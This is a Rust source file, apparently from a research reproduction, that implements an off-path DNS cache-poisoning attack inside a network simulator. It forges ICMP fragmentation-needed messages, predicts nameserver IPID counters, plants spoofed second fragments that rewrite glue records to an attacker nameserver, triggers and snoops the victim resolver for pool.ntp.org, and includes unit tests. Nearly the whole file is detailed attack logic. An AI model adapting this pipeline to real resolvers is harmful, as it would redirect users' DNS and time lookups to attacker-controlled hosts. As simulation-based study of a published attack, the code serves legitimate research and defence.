//! The reusable off-path poisoning pipeline (paper §III + §IV-A).
//!
//! Drives the full chain against a victim resolver, continuously:
//!
//! 1. **Force fragmentation**: forged ICMP frag-needed to every target
//!    nameserver, claiming a small MTU towards the resolver (refreshed
//!    before the PMTU cache expires).
//! 2. **Probe**: periodic direct DNS queries to each nameserver — the
//!    responses yield both the response byte layout (for forging) and the
//!    IPID counter samples (for prediction). Each probe is a copy of one
//!    encoded query with its TXID patched in. A reply is checked and kept
//!    with its record layout, both from the one checked walk that accepts
//!    it; a plant round forges the spoofed tail from that layout without
//!    walking the reply again. Once the resolver is fully poisoned no plant
//!    round is left, so the probes still go out but their replies and IPIDs
//!    go unread.
//! 3. **Plant**: every 25 s (under the 30 s Linux reassembly timeout),
//!    spoofed second fragments for a window of predicted IPIDs are placed
//!    in the resolver's defragmentation cache, for every target NS.
//! 4. **Trigger** (optional): RD=1 queries to an open resolver force it to
//!    resolve `pool.ntp.org` when the cached A expires — the attacker
//!    controls query timing (§IV-A option 2/3).
//! 5. **Check** (optional): RD=0 snooping verifies whether the poisoned
//!    glue / the malicious A set has landed, so the attacker can stop.

use netsim::fasthash::FastMap;
use std::net::Ipv4Addr;

use bytes::{Bytes, BytesMut};
use dns::auth::DNS_PORT;
use dns::message::{Message, MessageView, Section};
use dns::name::Name;
use dns::record::RecordType;
use dns::zone::pool_domain;
use netsim::prelude::*;
use rand::RngExt;

use crate::forge::SpanTail;
use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
use crate::ipid::IpidPredictor;
use crate::wire_walk::RecordSpan;

/// Configuration of the poisoning pipeline: the addresses of one attack,
/// its IPID window, and whether the victim resolver answers the attacker.
///
/// What every attack shares is a constant: the attacker's network
/// ([`MALICIOUS_NET`]), the MTU forced via ICMP ([`FORCED_MTU`]), the step
/// periods ([`ICMP_REFRESH`], [`PROBE_INTERVAL`], [`PLANT_INTERVAL`],
/// [`CONTROL_INTERVAL`]) and the domain under attack
/// ([`dns::zone::POOL_DOMAIN`]).
#[derive(Debug, Clone)]
pub struct PoisonConfig {
    /// The victim resolver.
    pub resolver: Ipv4Addr,
    /// The authoritative nameservers of the pool domain.
    pub ns_targets: Vec<Ipv4Addr>,
    /// The attacker's nameserver address (glue records are rewritten to it).
    pub attacker_ns: Ipv4Addr,
    /// Width of the planted IPID window.
    pub ipid_window: u16,
    /// Whether the resolver is open to the attacker: RD=1 trigger queries
    /// and RD=0 success checks every [`CONTROL_INTERVAL`]. A closed
    /// resolver resolves only on the victim's own queries.
    pub open: bool,
}

/// Prefix of the attacker-controlled addresses, `(network, prefix_len)`:
/// an RD=0 answer entirely inside it confirms full poisoning.
pub const MALICIOUS_NET: (Ipv4Addr, u8) = (Ipv4Addr::new(66, 66, 0, 0), 16);
/// ICMP refresh period (under the 10-minute PMTU cache lifetime).
pub const ICMP_REFRESH: SimDuration = SimDuration::from_secs(240);
/// Nameserver probing period.
pub const PROBE_INTERVAL: SimDuration = SimDuration::from_secs(20);
/// Fragment re-planting period (under the 30 s Linux reassembly timeout).
pub const PLANT_INTERVAL: SimDuration = SimDuration::from_secs(25);
/// Period of the RD=0 checks and RD=1 triggers against an open resolver.
pub const CONTROL_INTERVAL: SimDuration = SimDuration::from_secs(30);

impl PoisonConfig {
    /// A standard configuration against an open resolver.
    pub fn open_resolver(
        resolver: Ipv4Addr,
        ns_targets: Vec<Ipv4Addr>,
        attacker_ns: Ipv4Addr,
    ) -> Self {
        PoisonConfig { resolver, ns_targets, attacker_ns, ipid_window: 16, open: true }
    }

    /// Same, but without trigger/check (closed resolver: only the victim's
    /// own lookups trigger resolution).
    pub fn closed_resolver(
        resolver: Ipv4Addr,
        ns_targets: Vec<Ipv4Addr>,
        attacker_ns: Ipv4Addr,
    ) -> Self {
        PoisonConfig {
            open: false,
            ..PoisonConfig::open_resolver(resolver, ns_targets, attacker_ns)
        }
    }
}

/// True if `addr` is in the attacker's network ([`MALICIOUS_NET`]).
pub fn is_malicious(addr: Ipv4Addr) -> bool {
    let (net, len) = MALICIOUS_NET;
    let mask = u32::MAX << (32 - u32::from(len));
    (u32::from(addr) & mask) == (u32::from(net) & mask)
}

/// Counters exposed by the pipeline.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PoisonStats {
    /// Forged ICMP messages sent.
    pub icmps_sent: u64,
    /// Probe queries sent to nameservers.
    pub probes_sent: u64,
    /// Spoofed fragments planted.
    pub fragments_planted: u64,
    /// Trigger queries sent to the resolver.
    pub triggers_sent: u64,
    /// RD=0 check queries sent.
    pub checks_sent: u64,
}

#[derive(Debug, Default)]
struct TargetState {
    predictor: IpidPredictor,
    /// The latest accepted probe reply (DNS payload).
    reply: Option<Bytes>,
    /// The layout of `reply`'s records, from the walk that accepted it.
    spans: Vec<RecordSpan>,
}

impl TargetState {
    /// True if `reply` has the kept reply's layout: the same length and the
    /// same bytes everywhere except the ID (bytes 0..2) and each A answer's
    /// TTL and address. The message walk reads a TTL raw and takes any four
    /// bytes as A RDATA, so such a reply walks to the kept spans, with the
    /// kept reply's flags (QR set). That holds as long as no name in the
    /// kept reply reads through those windows by a compression pointer,
    /// which an encoder compressing to earlier names never writes; debug
    /// builds check every reuse against a fresh walk.
    fn same_layout(&self, reply: &[u8]) -> bool {
        let Some(kept) = self.reply.as_deref() else { return false };
        if kept.len() != reply.len() {
            return false;
        }
        let mut from = 2;
        for span in self.answer_a_spans() {
            let ttl = span.ttl_offset;
            let rdata = span.rdata_offset;
            if kept[from..ttl] != reply[from..ttl] || kept[ttl + 4..rdata] != reply[ttl + 4..rdata]
            {
                return false;
            }
            from = rdata + 4;
        }
        kept[from..] == reply[from..]
    }

    /// The A records of the answer section, whose TTL and address may
    /// differ between replies of one layout.
    fn answer_a_spans(&self) -> impl Iterator<Item = &RecordSpan> {
        self.spans.iter().filter(|s| s.section == Section::Answer && s.rtype == RecordType::A)
    }
}

const PROBE_PORT: u16 = 5399;
const CONTROL_PORT: u16 = 5398;

/// The embedded poisoning engine. The owning [`Host`] forwards its
/// `on_start`/timer-tick/`on_datagram`/`on_raw_packet` events.
#[derive(Debug)]
pub struct PoisonPipeline {
    /// Configuration (public for scenario introspection).
    pub config: PoisonConfig,
    targets: FastMap<Ipv4Addr, TargetState>,
    probe_pending: FastMap<u16, Ipv4Addr>,
    control_pending: FastMap<u16, ControlQuery>,
    check_name: Option<Name>,
    /// The walk buffer of the next probe reply, swapped with the kept
    /// layout when the reply is accepted; control replies are walked into
    /// it too.
    scratch_spans: Vec<RecordSpan>,
    last_icmp: Option<SimTime>,
    last_probe: Option<SimTime>,
    last_plant: Option<SimTime>,
    last_control: Option<SimTime>,
    glue_poisoned_at: Option<SimTime>,
    fully_poisoned_at: Option<SimTime>,
    /// Counters.
    pub stats: PoisonStats,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum ControlQuery {
    CheckGlue,
    CheckPool,
    Trigger,
}

impl PoisonPipeline {
    /// Creates the pipeline.
    pub fn new(config: PoisonConfig) -> Self {
        let targets = config.ns_targets.iter().map(|&a| (a, TargetState::default())).collect();
        PoisonPipeline {
            config,
            targets,
            probe_pending: FastMap::default(),
            control_pending: FastMap::default(),
            check_name: None,
            scratch_spans: Vec::new(),
            last_icmp: None,
            last_probe: None,
            last_plant: None,
            last_control: None,
            glue_poisoned_at: None,
            fully_poisoned_at: None,
            stats: PoisonStats::default(),
        }
    }

    /// True once RD=0 snooping has seen poisoned glue; never cleared.
    pub fn glue_poisoned(&self) -> bool {
        self.glue_poisoned_at.is_some()
    }

    /// True once RD=0 snooping has seen the malicious pool A set; never cleared.
    pub fn fully_poisoned(&self) -> bool {
        self.fully_poisoned_at.is_some()
    }

    /// When the glue poisoning was first confirmed.
    pub fn glue_poisoned_at(&self) -> Option<SimTime> {
        self.glue_poisoned_at
    }

    /// When full poisoning was first confirmed.
    pub fn fully_poisoned_at(&self) -> Option<SimTime> {
        self.fully_poisoned_at
    }

    /// Kick off: force fragmentation and start probing.
    pub fn start(&mut self, ctx: &mut Ctx<'_>) {
        self.send_icmps(ctx);
        self.send_probes(ctx);
    }

    /// Periodic driver. Each step self-limits to its configured interval,
    /// so call this at any period no longer than the shortest of them.
    pub fn tick(&mut self, ctx: &mut Ctx<'_>) {
        let now = ctx.now();
        if due(now, self.last_icmp, ICMP_REFRESH) {
            self.send_icmps(ctx);
        }
        if due(now, self.last_probe, PROBE_INTERVAL) {
            self.send_probes(ctx);
        }
        if !self.fully_poisoned() && due(now, self.last_plant, PLANT_INTERVAL) {
            self.plant(ctx);
        }
        if self.config.open
            && !self.fully_poisoned()
            && due(now, self.last_control, CONTROL_INTERVAL)
        {
            self.last_control = Some(now);
            self.send_checks(ctx);
            // Trigger queries serve double duty: before glue poisoning each
            // resolver re-resolution (every A-TTL expiry) is a fresh
            // poisoning opportunity; after it, the next resolution fetches
            // the malicious A set from the attacker's nameserver.
            self.send_trigger(ctx);
        }
    }

    fn send_icmps(&mut self, ctx: &mut Ctx<'_>) {
        self.last_icmp = Some(ctx.now());
        let resolver = self.config.resolver;
        for &ns in &self.config.ns_targets {
            self.stats.icmps_sent += 1;
            ctx.send_icmp(ns, forge_frag_needed(ns, resolver, FORCED_MTU));
        }
    }

    /// Probes every nameserver. Once the resolver is fully poisoned the
    /// same probes go out, but nothing waits for their replies.
    fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
        self.last_probe = Some(ctx.now());
        let query = Message::query(0, pool_domain(), RecordType::A, false);
        let query = query.encode();
        for &ns in &self.config.ns_targets {
            let txid: u16 = ctx.rng().random();
            if let Ok(query) = &query {
                self.stats.probes_sent += 1;
                if !self.fully_poisoned() {
                    self.probe_pending.insert(txid, ns);
                }
                ctx.send_udp(ns, PROBE_PORT, DNS_PORT, with_txid(query, txid));
            }
        }
    }

    fn plant(&mut self, ctx: &mut Ctx<'_>) {
        self.last_plant = Some(ctx.now());
        let resolver = self.config.resolver;
        let window = self.config.ipid_window;
        let horizon = ctx.now() + PLANT_INTERVAL;
        let attacker_ns = self.config.attacker_ns;
        let mut to_send = Vec::new();
        for (&ns, state) in &mut self.targets {
            let Some(reply) = &state.reply else { continue };
            // Predict the counter over the planting horizon.
            let ipids = state.predictor.predict_window(horizon, window);
            if ipids.is_empty() {
                continue;
            }
            let Ok(tail) = SpanTail::forge(reply, &state.spans, FORCED_MTU, attacker_ns) else {
                continue;
            };
            to_send.extend(ipids.iter().map(|&ipid| tail.fragment(ns, resolver, ipid)));
        }
        for pkt in to_send {
            self.stats.fragments_planted += 1;
            ctx.send_raw(pkt);
        }
    }

    fn send_checks(&mut self, ctx: &mut Ctx<'_>) {
        let send = |pipeline: &mut Self, ctx: &mut Ctx<'_>, name: Name, kind: ControlQuery| {
            let txid: u16 = ctx.rng().random();
            // RD=0: answer from cache only — never perturbs the resolver.
            let query = Message::query(txid, name, RecordType::A, false);
            if let Ok(wire) = query.encode() {
                pipeline.stats.checks_sent += 1;
                pipeline.control_pending.insert(txid, kind);
                ctx.send_udp(pipeline.config.resolver, CONTROL_PORT, DNS_PORT, wire);
            }
        };
        if let Some(name) = self.check_name.clone() {
            if !self.glue_poisoned() {
                send(self, ctx, name, ControlQuery::CheckGlue);
            }
        }
        send(self, ctx, pool_domain(), ControlQuery::CheckPool);
    }

    fn send_trigger(&mut self, ctx: &mut Ctx<'_>) {
        let txid: u16 = ctx.rng().random();
        let query = Message::query(txid, pool_domain(), RecordType::A, true);
        if let Ok(wire) = query.encode() {
            self.stats.triggers_sent += 1;
            self.control_pending.insert(txid, ControlQuery::Trigger);
            ctx.send_udp(self.config.resolver, CONTROL_PORT, DNS_PORT, wire);
        }
    }

    /// Raw tap: harvest IPIDs from nameserver responses, until the
    /// resolver is fully poisoned and no plant round reads them.
    pub fn handle_raw(&mut self, now: SimTime, pkt: &netsim::ipv4::Ipv4Packet) {
        if pkt.is_fragment() || self.fully_poisoned() {
            return;
        }
        if let Some(state) = self.targets.get_mut(&pkt.src) {
            state.predictor.observe(now, pkt.id);
        }
    }

    /// Keeps a nameserver's reply to a pending probe, with the layout of
    /// its records from the walk that checks it. A reply with the kept
    /// reply's layout ([`TargetState::same_layout`]) keeps the kept spans
    /// and is not walked again. A reply that fails the message checks
    /// leaves the probe pending and the previous reply in place.
    fn accept_probe_reply(&mut self, src: Ipv4Addr, payload: &Bytes) {
        let known = self.targets.get(&src).filter(|state| state.same_layout(payload));
        let id = match known {
            Some(state) => {
                if cfg!(debug_assertions) {
                    let mut fresh = Vec::new();
                    let view = MessageView::with_spans(payload, &mut fresh).map(|v| *v.header());
                    assert!(
                        view.is_ok_and(|h| h.qr) && fresh == state.spans,
                        "a reused layout differs from a fresh walk"
                    );
                }
                u16::from_be_bytes([payload[0], payload[1]])
            }
            None => {
                let Ok(msg) = MessageView::with_spans(payload, &mut self.scratch_spans) else {
                    return;
                };
                let header = msg.header();
                if !header.qr {
                    return;
                }
                header.id
            }
        };
        let walked = known.is_none();
        if self.probe_pending.remove(&id).is_none() {
            return;
        }
        if let Some(state) = self.targets.get_mut(&src) {
            state.reply = Some(payload.clone());
            if walked {
                std::mem::swap(&mut state.spans, &mut self.scratch_spans);
            }
            if self.check_name.is_none() {
                let forged =
                    SpanTail::forge(payload, &state.spans, FORCED_MTU, self.config.attacker_ns);
                let first = forged.ok().and_then(|t| t.poisoned().next());
                self.check_name = first.and_then(|span| span.name(payload).ok());
            }
        }
    }

    /// Records confirmed poisoning of the glue, and of the A set if `full`.
    /// Full poisoning ends the plant rounds, the only readers of the probe
    /// replies, so the kept replies and the pending probes are dropped.
    fn confirm(&mut self, now: SimTime, full: bool) {
        self.glue_poisoned_at.get_or_insert(now);
        if full && self.fully_poisoned_at.is_none() {
            self.fully_poisoned_at = Some(now);
            self.probe_pending.clear();
            for state in self.targets.values_mut() {
                state.reply = None;
                state.spans.clear();
            }
        }
    }

    /// Datagram handling; returns `true` if the datagram belonged to the
    /// pipeline.
    pub fn handle_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) -> bool {
        match d.dst_port {
            PROBE_PORT => {
                if !self.fully_poisoned() {
                    self.accept_probe_reply(d.src, &d.payload);
                }
                true
            }
            CONTROL_PORT => {
                let spans = &mut self.scratch_spans;
                let Ok(msg) = MessageView::with_spans(&d.payload, spans) else { return true };
                let Some(kind) = self.control_pending.remove(&msg.header().id) else { return true };
                let data = msg.bytes();
                let mut addrs = spans
                    .iter()
                    .filter(|span| span.section == Section::Answer)
                    .filter_map(|span| span.a_addr(data))
                    .peekable();
                let (poisoned, full) = match kind {
                    ControlQuery::CheckGlue => (addrs.any(|a| a == self.config.attacker_ns), false),
                    ControlQuery::CheckPool | ControlQuery::Trigger => {
                        (addrs.peek().is_some() && addrs.all(is_malicious), true)
                    }
                };
                if poisoned {
                    self.confirm(ctx.now(), full);
                }
                true
            }
            _ => false,
        }
    }
}

/// A copy of the encoded `query` with its ID set to `txid`.
fn with_txid(query: &[u8], txid: u16) -> Bytes {
    let mut wire = BytesMut::with_capacity(query.len());
    wire.extend_from_slice(query);
    wire[..2].copy_from_slice(&txid.to_be_bytes());
    wire.freeze()
}

fn due(now: SimTime, last: Option<SimTime>, interval: SimDuration) -> bool {
    match last {
        None => true,
        Some(t) => now.saturating_since(t) >= interval,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn malicious_net_matching() {
        assert!(is_malicious("66.66.1.2".parse().unwrap()));
        assert!(!is_malicious("66.67.1.2".parse().unwrap()));
        assert!(!is_malicious("192.0.2.1".parse().unwrap()));
    }

    /// A reply that fails the message checks changes nothing: the earlier
    /// reply stays the one a plant round forges, and the probe it claims
    /// to answer stays pending.
    #[test]
    fn garbled_probe_reply_keeps_the_earlier_reply() {
        use dns::prelude::{pool_zone, AuthServer};
        use rand::rngs::SmallRng;
        use rand::SeedableRng;

        let ns: Ipv4Addr = "198.51.100.1".parse().unwrap();
        let config = PoisonConfig::closed_resolver(
            "10.0.0.53".parse().unwrap(),
            vec![ns],
            "66.66.66.66".parse().unwrap(),
        );
        let mut pipeline = PoisonPipeline::new(config);
        let servers = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let mut server = AuthServer::new(vec![pool_zone(servers, 23, ns)]);
        let mut reply = |txid: u16| {
            let query = Message::query(txid, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
            server.answer(&query, &mut SmallRng::seed_from_u64(u64::from(txid))).encode().unwrap()
        };
        let reply_of = |p: &PoisonPipeline| p.targets[&ns].reply.clone();

        let first = reply(1);
        pipeline.probe_pending.insert(1, ns);
        pipeline.accept_probe_reply(ns, &first);
        assert_eq!(reply_of(&pipeline), Some(first.clone()));
        assert!(pipeline.probe_pending.is_empty());
        assert!(pipeline.check_name.is_some());

        let second = reply(2);
        pipeline.probe_pending.insert(2, ns);
        let mut self_pointer = second.to_vec();
        self_pointer[12..14].copy_from_slice(&[0xC0, 12]);
        for garbled in [second.slice(..second.len() - 1), Bytes::from(self_pointer)] {
            pipeline.accept_probe_reply(ns, &garbled);
            assert_eq!(reply_of(&pipeline), Some(first.clone()));
            assert_eq!(pipeline.probe_pending.get(&2), Some(&ns));
        }
        pipeline.accept_probe_reply(ns, &second);
        assert_eq!(reply_of(&pipeline), Some(second));
        assert!(pipeline.probe_pending.is_empty());
    }

    /// A reply of the kept layout (another ID, other answer TTLs and
    /// addresses) keeps the kept spans, and they are what a fresh walk
    /// finds. A change to any other byte, to the length or to the answer
    /// count is a new layout, which is walked.
    #[test]
    fn replies_of_the_kept_layout_reuse_its_spans() {
        use crate::wire_walk::walk_records;
        use dns::prelude::{pool_zone, AuthServer};
        use rand::rngs::SmallRng;
        use rand::SeedableRng;

        let ns: Ipv4Addr = "198.51.100.1".parse().unwrap();
        let config = PoisonConfig::closed_resolver(
            "10.0.0.53".parse().unwrap(),
            vec![ns],
            "66.66.66.66".parse().unwrap(),
        );
        let mut pipeline = PoisonPipeline::new(config);
        let servers = (1..=8).map(|i| Ipv4Addr::new(192, 0, 2, i)).collect();
        let mut server = AuthServer::new(vec![pool_zone(servers, 23, ns)]);
        let mut reply = |txid: u16| {
            let query = Message::query(txid, "pool.ntp.org".parse().unwrap(), RecordType::A, false);
            server.answer(&query, &mut SmallRng::seed_from_u64(u64::from(txid))).encode().unwrap()
        };
        let accept = |p: &mut PoisonPipeline, txid: u16, reply: &Bytes| {
            p.probe_pending.insert(txid, ns);
            p.accept_probe_reply(ns, reply);
            assert!(p.probe_pending.is_empty(), "txid {txid} answered");
            let state = &p.targets[&ns];
            assert_eq!(state.reply.as_ref(), Some(reply));
            assert_eq!(state.spans, walk_records(reply).unwrap(), "kept spans of txid {txid}");
        };

        let first = reply(1);
        accept(&mut pipeline, 1, &first);
        let state = &pipeline.targets[&ns];
        let mut window = vec![false; first.len()];
        window[..2].fill(true);
        for span in state.answer_a_spans() {
            window[span.ttl_offset..span.ttl_offset + 4].fill(true);
            window[span.rdata_offset..span.rdata_offset + 4].fill(true);
        }
        assert_eq!(window.iter().filter(|&&w| w).count(), 2 + 4 * 8, "four A answers");

        // Any single changed byte: reused inside the windows, walked outside.
        for (i, &inside) in window.iter().enumerate() {
            for flip in [0x01, 0x80, 0xFF] {
                let mut changed = first.to_vec();
                changed[i] ^= flip;
                assert_eq!(state.same_layout(&changed), inside, "byte {i} ^ {flip:#04x}");
            }
        }
        // Many window bytes at once: the kept spans are a fresh walk's.
        let mut rng = SmallRng::seed_from_u64(9);
        for _ in 0..200 {
            let mut changed = first.to_vec();
            for (byte, _) in changed.iter_mut().zip(&window).filter(|(_, w)| **w) {
                if rng.random_bool(0.5) {
                    *byte = rng.random();
                }
            }
            assert!(state.same_layout(&changed));
            assert_eq!(walk_records(&changed).unwrap(), state.spans);
        }
        // Another length, or another answer count, is another layout.
        let mut longer = first.to_vec();
        longer.push(0);
        let mut fewer = Message::decode(&first).unwrap();
        fewer.answers.pop();
        let fewer = fewer.encode().unwrap();
        for other in [&first[..first.len() - 1], &longer[..], &fewer[..]] {
            assert!(!state.same_layout(other), "{} bytes", other.len());
        }

        // Through the pipeline: a later reply of the rotation is reused,
        // one with an answer fewer is walked, then the layout is back.
        let second = reply(2);
        assert_ne!(second[12..], first[12..], "the rotation drew other answers");
        assert!(pipeline.targets[&ns].same_layout(&second));
        accept(&mut pipeline, 2, &second);
        let mut fewer = Message::decode(&reply(3)).unwrap();
        fewer.answers.pop();
        accept(&mut pipeline, 3, &fewer.encode().unwrap());
        accept(&mut pipeline, 4, &reply(4));
    }

    /// Once the resolver is fully poisoned the probes keep going out, but
    /// nothing waits for their replies and no reply is kept.
    #[test]
    fn no_probe_reply_state_after_full_poisoning() {
        use crate::poisoner::tests::{boot_time_world, ATTACKER};
        fn pipeline(sim: &Simulator) -> &PoisonPipeline {
            &sim.host::<crate::poisoner::OffPathPoisoner>(ATTACKER).unwrap().pipeline
        }
        let mut sim = boot_time_world(42, true);
        let mut probes_at_poisoning = None;
        for _ in 0..30 {
            sim.run_for(SimDuration::from_mins(1));
            let p = pipeline(&sim);
            probes_at_poisoning =
                probes_at_poisoning.or(p.fully_poisoned().then_some(p.stats.probes_sent));
        }
        let p = pipeline(&sim);
        assert!(p.fully_poisoned(), "stats: {:?}", p.stats);
        assert!(p.probe_pending.is_empty(), "{} probes pending", p.probe_pending.len());
        assert!(p.targets.values().all(|t| t.reply.is_none()), "a probe reply is kept");
        assert!(p.stats.probes_sent > probes_at_poisoning.unwrap(), "probing must go on");
    }

    /// Confirmed glue keeps the probe state; confirmed full poisoning
    /// drops it, a probe still in flight too. The first times stick.
    #[test]
    fn confirming_full_poisoning_drops_the_probe_state() {
        let ns: Ipv4Addr = "198.51.100.1".parse().unwrap();
        let mut p = PoisonPipeline::new(PoisonConfig::open_resolver(ns, vec![ns], ns));
        p.probe_pending.insert(7, ns);
        p.targets.get_mut(&ns).unwrap().reply = Some(Bytes::from_static(b"reply"));
        let state = |p: &PoisonPipeline| {
            let kept = (p.probe_pending.len(), p.targets[&ns].reply.is_some());
            (p.glue_poisoned_at(), p.fully_poisoned_at(), kept)
        };
        let t = SimTime::from_secs;
        p.confirm(t(1), false);
        assert_eq!(state(&p), (Some(t(1)), None, (1, true)));
        p.confirm(t(2), true);
        p.confirm(t(3), true);
        assert_eq!(state(&p), (Some(t(1)), Some(t(2)), (0, false)));
    }

    /// A patched probe is the query encoded with its TXID.
    #[test]
    fn patched_probes_equal_encoded_queries() {
        for name in
            ["pool.ntp.org", "0.pool.ntp.org", "a-much-longer-label.europe.pool.ntp.org", "."]
        {
            let name: Name = name.parse().unwrap();
            let encode = |txid| Message::query(txid, name.clone(), RecordType::A, false).encode();
            let query = encode(0).unwrap();
            for txid in [0, 1, 0x00FF, 0x1234, 0xFF00, u16::MAX] {
                assert_eq!(with_txid(&query, txid), encode(txid).unwrap(), "{name} txid {txid}");
            }
        }
    }

    #[test]
    fn due_helper() {
        let t0 = SimTime::from_secs(100);
        assert!(due(t0, None, SimDuration::from_secs(10)));
        assert!(!due(t0, Some(SimTime::from_secs(95)), SimDuration::from_secs(10)));
        assert!(due(t0, Some(SimTime::from_secs(90)), SimDuration::from_secs(10)));
    }
}
